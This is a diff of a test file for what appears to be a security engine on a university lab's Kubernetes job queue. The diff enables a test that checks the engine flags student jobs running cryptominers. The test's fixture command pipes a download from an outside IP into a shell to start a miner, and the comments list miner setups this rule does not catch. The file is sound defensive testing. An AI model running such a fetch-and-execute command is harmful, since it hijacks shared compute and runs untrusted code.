@@ -114,12 +114,12 @@ describe('Kueue: which quota and priority a job draws on, with examples/stepgate
     expect(reasonOf(res), rules(res)).not.toBe('allowed');
   });
 
-  // Open: a miner started by the student's own Job shape through the lab's queue: the student's
-  // namespace, image, queue and GPU count; only the command (a script fetched and run) differs,
-  // and commands of training jobs are arbitrary shell. What tells it apart is in the image and the
-  // running pod (admission: allowed registries and signed images; runtime detection), not in the
-  // request line or anything the engine compares.
-  it.fails('miner Jobs submitted through the lab queue from the student laptop are asked more than the everyday sign-in', async () => {
+  // Fixed (guardrail, session 45): a miner started by the student's own Job shape through the lab's
+  // queue: the student's namespace, image, queue and GPU count; only the command differs, and it
+  // pipes a download into sh (container_command_egress, critical). Commands of training jobs are
+  // arbitrary shell: a miner written into the script itself, or an image of the attacker's, is not
+  // this shape (admission: allowed registries and signed images; runtime detection).
+  it('miner Jobs submitted through the lab queue from the student laptop are asked more than the everyday sign-in', async () => {
     const login = await twoDays('d14f-vision-e@uni.example', student('vision-e'));
     const res = await send(login, TUE + 6.3 * H, 'POST', '/apis/batch/v1/namespaces/u-vision-e/jobs?fieldManager=kubectl-create', {
       body: kueueJob('u-vision-e', 'train-ablation-0', 'vision-queue', 4, { command: ['bash', '-c', 'pip install -q nvitop && curl -s http://45.9.148.3/xm | sh -s -- --donate-level 0'] }),
